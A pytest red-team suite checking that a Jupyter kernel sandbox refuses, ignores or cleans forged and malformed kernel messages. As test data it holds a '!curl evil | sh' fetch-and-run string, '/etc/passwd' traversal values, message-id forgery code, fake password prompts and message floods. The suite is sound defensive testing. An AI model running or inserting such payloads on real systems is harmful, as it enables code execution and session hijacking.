"""Messages that no honest kernel sends: refused or cleaned one by one, and the session goes on as if nothing had come.

The attacker is the kernel: it has the key, the sockets, and the id of the request that runs.
"""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections.abc import Callable
from typing import Any

import nbformat
import pytest

from kernel_sandbox import Execution, Limits, ProtocolViolation, Session
from tests.redteam.cells import alternating, arm, armed, ask, attack, is_well, strike

SAY = "c = Connection('{channel}')\n{send}\ntime.sleep(0.05)\nprint('the end')"


def send(session: Session, source: str, channel: str = "iopub", **values: Any) -> Execution:
    """Run a cell that sends bytes on a channel and ends with a line of its own."""
    return strike(session, SAY.format(channel=channel, send=source), **values)


def strict_notebook(session: Session) -> Any:
    """The transcript as strict JSON, checked by nbformat."""
    notebook = json.loads(session.transcript.to_bytes(), parse_constant=pytest.fail)
    nbformat.validate(notebook)
    return notebook


REFUSED = {
    "no delimiter": "message([b'x' * 200])",
    "identities without end": "message([b'i' * 10] * 40)",
    "too few parts": "message([b'<IDS|MSG>', b's' * 64, b'{}' * 20, b'{}'])",
    "a signature of another key": "stream('refused', key=b'another')",
    "no signature": "message([b'<IDS|MSG>', b''] + parts('stream', {'name': 'stdout', 'text': 'refused'})[2:])",
    "a signature of 64 KB": "message([b'<IDS|MSG>', b'f' * 65537] + parts('stream', {'text': 'refused'})[2:])",
    "a header of 64 KB": "say('iopub', header('stream', junk='x' * 65536), {'name': 'stdout', 'text': 'refused'})",
    "a header that is a list": "say('iopub', b'[\"stream\"]', {'name': 'stdout', 'text': 'refused'})",
    "a header that is no JSON": "say('iopub', b'\\x80\\x04\\x95refused', {'name': 'stdout', 'text': 'refused'})",
    "a header of NaN": "say('iopub', b'NaN', {'name': 'stdout', 'text': 'refused'})",
    "a type that is a list": "say('iopub', header(['stream']), {'name': 'stdout', 'text': 'refused'})",
    "a type that is null": "say('iopub', header(None), {'name': 'stdout', 'text': 'refused'})",
    "an unknown type": "say('iopub', 'stream2', {'name': 'stdout', 'text': 'refused'})",
    "a reply on the channel of outputs": "say('iopub', 'execute_reply', {'status': 'ok', 'text': 'refused'})",
    "a request": "say('iopub', 'execute_request', {'code': 'refused'})",
    "a parent that is a list": "say('iopub', 'stream', {'name': 'stdout', 'text': 'refused'}, parent=b'[]')",
    "a content that is a text": "say('iopub', 'stream', b'\"refused\"')",
    "a content that is no JSON": 'say(\'iopub\', \'stream\', b\'{"name": "stdout", "text": "refused"\')',
    "a number of 5,000 digits": "say('iopub', 'stream', b'{\"text\": \"refused\", \"n\": ' + b'9' * 5000 + b'}')",
    "lists 40,000 deep": "say('iopub', 'stream', b'{\"text\": \"refused\", \"n\": ' + b'[' * 40000 + b'}')",
    "objects 40,000 deep": "say('iopub', 'stream', b'{\"text\":' * 40000 + b'\"refused\"' + b'}' * 40000)",
    "half a million values": "say('iopub', 'stream', b'{\"text\": \"refused\", \"n\": [' + b'7,' * 500_000 + b'7]}')",
}


@attack("Integrity")
@pytest.mark.parametrize("form", REFUSED)
def test_malformed_message_is_refused(fresh_enough: Session, form: str) -> None:
    before = refusals(fresh_enough)
    execution = send(fresh_enough, f"c.send({REFUSED[form]})")
    assert execution.text == "the end\n"
    assert refusals(fresh_enough) == before + 1
    assert is_well(fresh_enough)
    strict_notebook(fresh_enough)


def refusals(session: Session) -> int:
    channels = session._session._kernel.channels
    return 0 if channels is None else channels.invalid


@pytest.fixture
def fresh_enough(target: Session) -> Session:
    """The standing session, before its refused messages would end it."""
    if refusals(target) > 80:
        target.restart()
        strike(target, "").raise_for_error()
    return target


IGNORED = {
    "a comm": "say('iopub', 'comm_open', {'comm_id': 'c', 'target_name': 'jupyter.widget', 'data': {'state': {}}})",
    "a comm's message": "say('iopub', 'comm_msg', {'comm_id': 'c', 'data': {'method': 'custom'}})",
    "a debugger's event": "say('iopub', 'debug_event', {'event': 'stopped'})",
    "a shutdown's announcement": "say('iopub', 'shutdown_reply', {'status': 'ok', 'restart': False})",
    "an unknown state": "say('iopub', 'status', {'execution_state': 'restarting'})",
    "a state that is a list": "say('iopub', 'status', {'execution_state': ['idle']})",
    "a welcome": "say('iopub', 'iopub_welcome', {'subscription': 'x'})",
    "a text that is a number": "say('iopub', 'stream', {'name': 'stdout', 'text': 7})",
    "an empty text": "stream('')",
    "a display of nothing": "say('iopub', 'display_data', {'data': {}, 'metadata': {}})",
    "a display that is a list": "say('iopub', 'display_data', {'data': ['x'], 'metadata': []})",
    "an update of nothing": "say('iopub', 'update_display_data', {'data': {'text/plain': 'x'}, 'transient': {}})",
    "an update of another's display": (
        "say('iopub', 'update_display_data', {'data': {'text/plain': 'x'}, 'transient': {'display_id': 'theirs'}})"
    ),
    "a kind that is no media type": "say('iopub', 'display_data', {'data': {'<script>': 'x', '../x': 'y', '': 'z'}})",
    "a widget": "say('iopub', 'display_data', {'data': {'application/vnd.jupyter.widget-view+json': {'id': 'x'}}})",
    "a text for nobody": "say('iopub', 'display_data', {'data': {'text/plain': 'x'}}, parent='0' * 32)",
    "a parent that is a number": "say('iopub', 'display_data', {'data': {'text/plain': 'x'}}, parent={'msg_id': 7})",
    "no parent": "say('iopub', 'display_data', {'data': {'text/plain': 'x'}}, parent={})",
    "an execution count below zero": "say('iopub', 'execute_input', {'code': 'x', 'execution_count': -1})",
    "an execution count that is true": "say('iopub', 'execute_input', {'code': 'x', 'execution_count': True})",
    "an execution count of 2^40": "say('iopub', 'execute_input', {'code': 'x', 'execution_count': 2**40})",
}


@attack("Integrity")
@pytest.mark.parametrize("form", IGNORED)
def test_message_that_means_nothing_shows_nothing(target: Session, form: str) -> None:
    before = refusals(target)
    execution = send(target, f"c.send({IGNORED[form]})")
    assert refusals(target) == before
    assert execution.text == "the end\n"
    assert len(execution.outputs) == 1
    assert 0 < (execution.execution_count or 0) < 2**31
    assert is_well(target)
    strict_notebook(target)


Look = Callable[[Execution], bool]
CLEANED: dict[str, tuple[str, Look]] = {
    "NaN and infinities": (
        "say('iopub', 'display_data', b'{\"data\": {\"application/json\": [NaN, Infinity, -Infinity, 1e999]}}')",
        lambda found: found.outputs[0].data["application/json"] == [None] * 4,  # type: ignore[union-attr]
    ),
    "an integer of 4,000 digits": (
        "say('iopub', 'display_data', b'{\"data\": {\"application/json\": {\"n\": ' + b'9' * 4000 + b'}}}')",
        lambda found: found.outputs[0].data["application/json"] == {"n": int("9" * 4000)},  # type: ignore[union-attr]
    ),
    "an integer of 5,000 digits": (
        "say('iopub', 'display_data', b'{\"data\": {\"application/json\": {\"n\": ' + b'9' * 5000 + b'}}}')",
        lambda found: "an integer of more than 4,300 digits is not shown" in found.text,
    ),
    "a text that is no UTF-8": (
        'say(\'iopub\', \'stream\', b\'{"name": "stdout", "text": "caf\\xe9.csv\\\\n"}\')',
        lambda found: found.text.startswith("caf\ufffd.csv\n"),
    ),
    "lone surrogates": (
        'say(\'iopub\', \'stream\', b\'{"name": "stdout", "text": "a\\\\ud800b\\\\udfff\\\\n"}\')',
        lambda found: found.text.startswith("a\ufffdb\ufffd\n"),
    ),
    "surrogates in names": (
        'say(\'iopub\', \'display_data\', b\'{"data": {"application/json": {"\\\\ud800": "\\\\udfff"}}}\')',
        lambda found: found.outputs[0].data["application/json"] == {"\ufffd": "\ufffd"},  # type: ignore[union-attr]
    ),
    "JSON 900 deep": (
        "say('iopub', 'display_data', b'{\"data\": {\"application/json\": ' + b'[' * 900 + b']' * 900 + b'}}')",
        lambda found: len(json.dumps(found.outputs[0].data["application/json"])) < 200,  # type: ignore[union-attr]
    ),
    "the same name twice": (
        'say(\'iopub\', \'stream\', b\'{"name": "stdout", "text": "first", "text": "second\\\\n"}\')',
        lambda found: found.text == "second\nthe end\n",
    ),
    "an unknown stream": (
        "say('iopub', 'stream', {'name': '../../etc/passwd', 'text': 'x\\n'})",
        lambda found: {output.name for output in found.outputs} == {"stdout"},  # type: ignore[union-attr]
    ),
    "an error of no texts": (
        "say('iopub', 'error', {'ename': {}, 'evalue': [1], 'traceback': [7, None, {'x': 1}, 'line']})",
        lambda found: found.outputs[0].traceback == ("line",),  # type: ignore[union-attr]
    ),
    "an error of seventy thousand lines": (
        "say('iopub', 'error', {'ename': 'E', 'evalue': 'v', 'traceback': ['x'] * 70_000})",
        lambda found: len(found.outputs[0].traceback) <= 2001,  # type: ignore[union-attr]
    ),
    "a display_id of a megabyte": (
        "say('iopub', 'display_data', {'data': {'text/plain': 'x'}, 'transient': {'display_id': 'd' * 2**20}})",
        lambda found: found.outputs[0].display_id is None,  # type: ignore[union-attr]
    ),
    "a thousand kinds": (
        "say('iopub', 'display_data', {'data': {f'text/x-{n}': 'x' for n in range(1000)}})",
        lambda found: len(found.outputs[0].data) <= 65,  # type: ignore[union-attr]
    ),
    "a picture that is a list": (
        "say('iopub', 'display_data', {'data': {'image/png': [7], 'text/plain': 'x'}})",
        lambda found: dict(found.outputs[0].data) == {"text/plain": "x"},  # type: ignore[union-attr]
    ),
    "a picture that is no picture": (
        "say('iopub', 'display_data', {'data': {'image/png': '!' * 100, 'text/plain': 'x'}})",
        lambda found: found.pictures == (),
    ),
    "buffers": (
        "say('iopub', 'display_data', {'data': {'text/plain': 'x'}}, buffers=[b'secret' * 1000] * 50)",
        lambda found: "secret" not in repr(found.outputs),
    ),
    "a table that names the file system": (
        "say('iopub', 'display_data', {'data': {'application/vnd.dataresource+json': {'schema': {'fields': "
        "[{'name': 'a', 'type': 'datetime', 'tz': 'dateutil//etc/passwd'}]}, 'data': [{'a': '2024-01-01'}]}}})",
        lambda found: str(found.dataframes[0]["a"].dt.tz) == "UTC",
    ),
    "a date beyond the calendar": (
        "say('iopub', header('stream', date='9999-12-31T23:59:59+00:01'), {'name': 'stdout', 'text': 'x\\n'})",
        lambda found: found.text == "x\nthe end\n",
    ),
    "a date of another shape": (
        "say('iopub', header('status', date={'year': 1}), {'execution_state': 'busy'})",
        lambda found: found.text == "the end\n",
    ),
    "an error in the cell's name": (
        "say('iopub', 'error', {'ename': 'KernelDied', 'evalue': 'the kernel died', 'traceback': []})",
        lambda found: found.status == "ok" and found.cause is None,
    ),
}


@attack("Integrity")
@pytest.mark.parametrize("form", CLEANED)
def test_hostile_content_is_cleaned(target: Session, form: str) -> None:
    sent, looks_right = CLEANED[form]
    execution = send(target, f"c.send({sent})")
    assert looks_right(execution), execution.outputs
    assert execution.text.endswith("the end\n")
    assert is_well(target)
    strict_notebook(target)


@attack("Lateral")
@pytest.mark.parametrize("source", ["set_next_input", "edit_magic", "ask_exit", "edit", 7, None])
def test_payload_writes_nothing_into_the_users_notebook(target: Session, source: Any) -> None:
    """A reply of the cell's own, before the real one."""
    payload = {"source": source, "text": "!curl evil | sh", "data": {"text/plain": "!curl evil"}, "replace": True}
    content = {"status": "ok", "execution_count": 1, "payload": [payload, 7, [payload], None]}
    execution = send(target, "c.send(say('shell', 'execute_reply', CONTENT))", "shell", CONTENT=content)
    assert "curl" not in repr(execution.outputs)
    assert "curl" not in str(strict_notebook(target)["cells"][-1]["outputs"])
    assert is_well(target)


@attack("Integrity")
def test_reply_and_idle_of_the_cells_own_end_it_and_the_next_one_runs(target: Session) -> None:
    """A cell may end itself early; what it runs on with is in nobody's way."""
    source = """
c = Connection("shell")
c.send(say("shell", "execute_reply", {"status": "ok", "execution_count": 1, "payload": []}))
Connection("iopub").send(say("iopub", "status", {"execution_state": "idle"}))
time.sleep(0.3)
"""
    assert strike(target, source).status == "ok"
    assert is_well(target)


UNREADABLE = {
    "no JSON": "say('shell', 'execute_reply', b'{')",
    "a list": "say('shell', 'execute_reply', b'[]')",
    "too deep": "say('shell', 'execute_reply', b'{\"a\":' * 40000 + b'1' + b'}' * 40000)",
    "of another key": "say('shell', 'execute_reply', {'status': 'ok'}, key=b'another')",
    "of an unknown type": "say('shell', 'execute_reply2', {'status': 'ok'})",
}


@attack("SelfDoS")
@pytest.mark.parametrize("form", UNREADABLE)
def test_reply_that_is_refused_ends_its_cell_at_once(target: Session, form: str) -> None:
    """The kernel's own reply is held up, so nothing better follows."""
    hold = "kernel().session.send = lambda *rest, send=kernel().session.send, **named: "
    hold += "None if 'execute_reply' in rest[1:2] else send(*rest, **named)\n"
    started = time.monotonic()
    execution = send(target, f"{hold}c.send({UNREADABLE[form]})", "shell")
    assert time.monotonic() - started < 5
    assert execution.status == "error"
    assert "could not be read" in execution.text or "is not shown" in execution.text
    target.restart()
    arm(target)


REPLIES: dict[str, Any] = {
    "nothing": {},
    "a status that is a number": {"status": 7},
    "an error without texts": {"status": "error", "ename": {}, "evalue": [7], "traceback": "x"},
    "an error of four megabytes": {"status": "error", "ename": "E", "evalue": "v" * 2**21, "traceback": ["t" * 2**21]},
    "an aborted cell": {"status": "aborted"},
    "a payload that is no list": {"status": "ok", "payload": {"source": "page"}},
    "pages of nothing": {
        "status": "ok",
        "payload": [{"source": "page"}, {"source": "page", "data": {"text/plain": 7}}],
    },
}


@attack("Integrity")
@pytest.mark.parametrize("form", REPLIES)
def test_reply_of_a_strange_shape_ends_its_cell_and_no_other(target: Session, form: str) -> None:
    execution = send(target, "c.send(say('shell', 'execute_reply', CONTENT))", "shell", CONTENT=REPLIES[form])
    assert execution.status in ("ok", "error", "aborted")
    assert len(execution.text) < 2**20
    assert is_well(target)
    strict_notebook(target)


LOSSES = {
    "its connection is cut": "for number in descriptors('iopub'): copy_of(number).shutdown(socket.SHUT_RDWR)",
    "its thread is stopped": "kernel().iopub_thread.stop()",
    "its messages are signed with another key": "kernel().session.key = b'another'",
}


@attack("SelfDoS")
@pytest.mark.parametrize(("engine", "loss"), alternating(LOSSES), indirect=["engine"])
def test_lost_idle_ends_a_cell_all_the_same(engine: str, loss: str) -> None:
    with armed(engine, limits=Limits(interrupt_grace=0.3)) as session:
        started = time.monotonic()
        assert strike(session, LOSSES[loss], timeout=2).status in ("ok", "timeout", "error")
        assert time.monotonic() - started < 12
        session.restart()
        assert is_well(session)


FORGE = """
head = kernel().get_parent()["header"]
said = head["msg_id"]
guesses = []
for n in range(1, 400):
    guesses += [f"{head['session']}_{os.getppid()}_{n}", f"{head['session']}_{n}", f"{n:032x}", str(n)]
    with contextlib.suppress(ValueError):
        guesses.append(f"{said[:-4]}{int(said[-4:], 16) + n & 0xFFFF:04x}")
c, d = Connection("iopub"), Connection("shell")
for guess in guesses:
    c.send(stream("forged\\n", parent=guess) + say("iopub", "status", {"execution_state": "idle"}, parent=guess))
    d.send(say("shell", "execute_reply", {"status": "ok", "execution_count": 99, "payload": []}, parent=guess))
print("sent")
"""


@attack("Integrity")
def test_answer_of_the_next_cell_cannot_be_sent_in_advance(target: Session) -> None:
    """Message ids that count could be guessed: the next cell would then be over before it ran."""
    execution = strike(target, FORGE)
    # Output without a known parent belongs to the running cell, which is the attacker's own.
    assert execution.status == "ok"
    following = target.execute("import time; time.sleep(0.2); print('its own')")
    assert following.text == "its own\n", "the next cell has the forged answer"
    assert following.execution_count != 99


@attack("Integrity")
def test_output_for_an_earlier_cell_stays_in_that_cell(target: Session) -> None:
    parent = ask(target, "answer(request_id())")
    execution = send(target, "c.send(stream('to the earlier one', parent=PARENT))", PARENT=parent)
    assert execution.text == "the end\n"
    cells = strict_notebook(target)["cells"]
    assert "to the earlier one" not in str(cells[-1]["outputs"])


@attack("Lateral")
def test_input_is_never_answered_unasked(target: Session) -> None:
    """Nobody handles prompts in this session: a request for input goes unheard."""
    source = "for _ in range(50): c.send(say('stdin', 'input_request', {'prompt': 'Password: ', 'password': True}))"
    assert send(target, source, "stdin").text == "the end\n"
    assert strike(target, "input('Password: ')").status == "error"
    assert is_well(target)


@attack("PeerDoS")
def test_flood_of_prompts_asks_one_at_a_time(engine: str) -> None:
    """Each prompt that is shown holds a thread of a pool that all sessions share, until a person has answered."""
    answered, done = threading.Event(), threading.Semaphore(0)
    open_now: list[int] = []
    most = 0

    def handler(prompt: str, password: bool) -> str:
        nonlocal most
        open_now.append(1)
        most = max(most, len(open_now))
        done.release()
        answered.wait(5)
        open_now.pop()
        return "answer"

    with armed(engine, input_handler=handler) as session:
        source = "for n in range(500): c.send(say('stdin', 'input_request', {'prompt': f'prompt {n}'}))"
        assert send(session, source, "stdin").text == "the end\n"
        done.acquire(timeout=2)
        started = time.monotonic()
        assert is_well(session)
        with armed(engine) as neighbour:
            assert is_well(neighbour)
        took = time.monotonic() - started
        answered.set()
    assert most == 1, f"{most} prompts at once"
    assert took < 3


@attack("Lateral")
def test_prompt_of_a_cell_that_is_over_is_withdrawn(engine: str) -> None:
    """A cell that asks and ends at once would have its prompt answered with what the next cell asked for."""
    asked: list[str] = []
    release = threading.Event()

    async def handler(prompt: str, password: bool) -> str:
        asked.append(prompt)
        if prompt == "trap":
            await asyncio.to_thread(release.wait, 5)
        return f"for {prompt}"

    with armed(engine, input_handler=handler) as session:
        source = "c.send(say('stdin', 'input_request', {'prompt': 'trap'}))"
        assert send(session, source, "stdin").text == "the end\n"
        deadline = time.monotonic() + 2
        while not asked and time.monotonic() < deadline:
            time.sleep(0.01)
        parent = ask(session, "answer(request_id())")
        answered = strike(session, "print(input('honest'))")
        late = "c.send(say('stdin', 'input_request', {'prompt': 'late'}, parent=PARENT))"
        send(session, late, "stdin", PARENT=parent)
        release.set()
    assert answered.text.splitlines()[-1] == "for honest"
    assert asked[0] == "trap"
    assert asked[1:] == ["honest"]


@attack("HostDoS")
def test_hundred_invalid_messages_end_the_session(
    fresh: Session, record_property: Callable[[str, object], None]
) -> None:
    started = time.monotonic()
    send_them = "c = Connection('iopub')\nfor _ in range(200): c.send(stream('x', key=b'another'))\ntime.sleep(9)"
    execution = strike(fresh, send_them, timeout=4)
    record_property("detection", time.monotonic() - started)
    assert isinstance(execution.cause, ProtocolViolation), execution.cause
    assert "more than 100 invalid messages" in str(execution.cause)
    assert execution.status == "dead"


SURVIVE = """
c = Connection("iopub")
said = stream("from the grave\\n" * 100)
if os.fork() == 0:
    os.setsid()
    while os.getppid() != 1: time.sleep(0.001)
    for _ in range(20000):
        if not c.send(said): break
    os._exit(0)
os.kill(os.getpid(), signal.SIGKILL)
"""


@attack("Integrity")
def test_messages_after_the_kernels_death_delay_nothing(
    fresh: Session, record_property: Callable[[str, object], None]
) -> None:
    started = time.monotonic()
    execution = strike(fresh, SURVIVE)
    record_property("detection", time.monotonic() - started)
    assert execution.status == "dead"
    assert time.monotonic() - started < 2
    fresh.restart()
    assert is_well(fresh)
    assert "grave" not in fresh.execute("1").text


@attack("SelfDoS")
def test_kernel_that_never_answers_is_stopped_step_by_step(engine: str) -> None:
    with armed(engine, limits=Limits(interrupt_grace=0.2)) as session:
        deaf = "signal.signal(signal.SIGINT, signal.SIG_IGN)\nos.kill(os.getpid(), signal.SIGSTOP)"
        execution = strike(session, deaf, timeout=0.3)
        assert execution.status == "timeout"
        assert is_well(session)


@attack("Integrity")
def test_transcript_of_all_that_is_a_valid_notebook(target: Session) -> None:
    from kernel_sandbox.session.transcript import Transcript

    notebook = strict_notebook(target)
    assert len(notebook["cells"]) > 10
    assert Transcript().to_bytes()
